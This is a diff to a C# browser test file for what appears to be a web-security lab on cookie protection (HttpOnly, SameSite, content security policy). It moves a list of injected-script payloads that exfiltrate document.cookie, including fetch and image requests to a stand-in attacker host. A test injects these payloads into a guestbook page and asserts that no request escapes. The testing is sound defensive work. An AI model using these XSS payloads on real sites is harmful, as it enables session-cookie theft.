@@ -14,6 +14,22 @@ public sealed class LabTests(AppFixture app, BrowserFixture browser) : BrowserTe
 {
     private const string Readable = "Cookie that scripts can read";
 
+    private static readonly string[] WaysOut =
+    [
+        "fetch('https://thief.example/?' + document.cookie).catch(() => {})",
+        "fetch('/labs/guestbook/outcome', { method: 'POST', body: document.cookie }).catch(() => {})",
+        "navigator.sendBeacon('/?' + document.cookie)",
+        "new Image().src = '/x.png?' + document.cookie",
+        "new Image().src = 'https://thief.example/x.png?' + document.cookie",
+        "document.head.append(Object.assign(document.createElement('link'), { rel: 'stylesheet', href: '/app.css?' + document.cookie }))",
+        "document.head.append(Object.assign(document.createElement('script'), { src: '/app.js?' + document.cookie }))",
+        "document.body.append(Object.assign(document.createElement('iframe'), { src: '/?' + document.cookie }))",
+        "const form = Object.assign(document.createElement('form'), { action: '/', method: 'post' }); document.body.append(form); form.submit()",
+        "window.open('/?' + document.cookie)",
+        "location.href = '/?' + document.cookie",
+        "new EventSource('/?' + document.cookie)",
+    ];
+
     [Theory]
     [InlineData("localhost")]
     [InlineData("127.0.0.1")]
@@ -38,7 +54,7 @@ public sealed class LabTests(AppFixture app, BrowserFixture browser) : BrowserTe
         await session.AssertAccessibleAsync("the answer");
 
         var cells = (await ResultsAsync(session, name)).ToDictionary(cell => cell.Place, cell => (cell.Harmed, cell.Observed));
-        Assert.Equal((true, "came along: order taken; the guarded desk refused"), cells["HttpOnly cookie, SameSite=None"]);
+        Assert.Equal((true, "came along: order taken; the guard refused"), cells["HttpOnly cookie, SameSite=None"]);
         Assert.All(["HttpOnly cookie, SameSite=Lax", "HttpOnly cookie, SameSite=Strict", Readable], place => Assert.Equal((false, "did not come along"), cells[place]));
 
         await page.GetByRole(AriaRole.Button, new() { Name = "Order at the guarded desk from here" }).ClickAsync();
@@ -68,26 +84,12 @@ public sealed class LabTests(AppFixture app, BrowserFixture browser) : BrowserTe
 
         await Assertions.Expect(strict.Locator("#outcome[data-brought]")).ToHaveCountAsync(1);
         var cells = (await ResultsAsync(session, name)).ToDictionary(cell => cell.Place, cell => (cell.Harmed, cell.Observed));
-        Assert.Equal((true, "read by an entry; the app’s policy blocked it"), cells["localStorage"]);
-        Assert.Equal((true, "read by an entry; the app’s policy blocked it"), cells[Readable]);
-        Assert.Equal((false, "not read; the app’s policy blocked the entry"), cells["HttpOnly cookie, SameSite=Strict"]);
+        Assert.Equal((true, "read; the app’s policy blocked it"), cells["localStorage"]);
+        Assert.Equal((true, "read; the app’s policy blocked it"), cells[Readable]);
+        Assert.All(["None", "Lax", "Strict"], mode => Assert.Equal((false, "not read; the app’s policy blocked it"), cells[$"HttpOnly cookie, SameSite={mode}"]));
+        // The decoys that no script read were there to be read.
+        Assert.Equal(3, (await session.Context.CookiesAsync()).Count(cookie => cookie.HttpOnly && cookie.Value.StartsWith("eyJ", StringComparison.Ordinal) && cookie.Name.StartsWith("BlazorJwt-Guestbook-", StringComparison.Ordinal)));
     }
-
-    private static readonly string[] WaysOut =
-    [
-        "fetch('https://thief.example/?' + document.cookie).catch(() => {})",
-        "fetch('/labs/guestbook/outcome', { method: 'POST', body: document.cookie }).catch(() => {})",
-        "navigator.sendBeacon('/?' + document.cookie)",
-        "new Image().src = '/x.png?' + document.cookie",
-        "new Image().src = 'https://thief.example/x.png?' + document.cookie",
-        "document.head.append(Object.assign(document.createElement('link'), { rel: 'stylesheet', href: '/app.css?' + document.cookie }))",
-        "document.head.append(Object.assign(document.createElement('script'), { src: '/app.js?' + document.cookie }))",
-        "document.body.append(Object.assign(document.createElement('iframe'), { src: '/?' + document.cookie }))",
-        "const form = Object.assign(document.createElement('form'), { action: '/', method: 'post' }); document.body.append(form); form.submit()",
-        "window.open('/?' + document.cookie)",
-        "location.href = '/?' + document.cookie",
-        "new EventSource('/?' + document.cookie)",
-    ];
 
     [Fact]
     public async Task No_request_leaves_the_page_with_the_hole()
@@ -103,6 +105,7 @@ public sealed class LabTests(AppFixture app, BrowserFixture browser) : BrowserTe
         foreach (var script in WaysOut)
         {
             await WriteAsync(session, $"<script>loot.textContent = document.cookie; setTimeout(() => {{ document.body.dataset.done = 'yes' }}, 300); {script}</script>");
+            await session.Page.WaitForLoadStateAsync();
             requests.Clear();
 
             var hole = await OpenTabAsync(session, "Open the page with the hole");
